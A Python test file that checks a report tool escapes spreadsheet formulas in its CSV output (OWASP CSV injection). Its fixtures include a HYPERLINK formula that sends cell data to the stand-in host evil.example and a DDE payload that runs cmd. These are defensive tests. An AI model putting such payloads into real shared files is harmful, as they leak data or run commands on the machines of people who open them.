"""No shared CSV starts a cell with = + - @ TAB or CR (OWASP CSV injection)."""

from __future__ import annotations

from dataclasses import replace

import pandas as pd
from reportkit import build_input

from aftercar.cli import main
from aftercar.report import write_report


def test_report_tables_neutralise_formula_text(tmp_path):
    data = build_input()
    evil = pd.DataFrame({"regimen": ['=HYPERLINK("http://evil.example/?"&A1)', "@SUM(A1)", "KPd"],
                         "lines": [1, -2, 3]})  # fmt: skip
    paths = write_report(replace(data, tables={"regimen_mapping": evil}), tmp_path / "out")
    text = paths.tables["regimen_mapping"].read_text()
    assert "'=HYPERLINK" in text and "'@SUM" in text and "\n=HYPERLINK" not in text
    assert ",-2\n" in text  # numbers stay numbers


def test_regimens_classify_output_neutralises_formula_text(tmp_path):
    src = tmp_path / "in.csv"
    src.write_text("regimen\n\"=cmd|' /C calc'!A0\"\nKPd\n")
    out = tmp_path / "out.csv"
    assert main(["regimens", "classify", str(src), "-o", str(out)]) == 0
    assert "\"'=cmd" in out.read_text() or "'=cmd" in out.read_text()
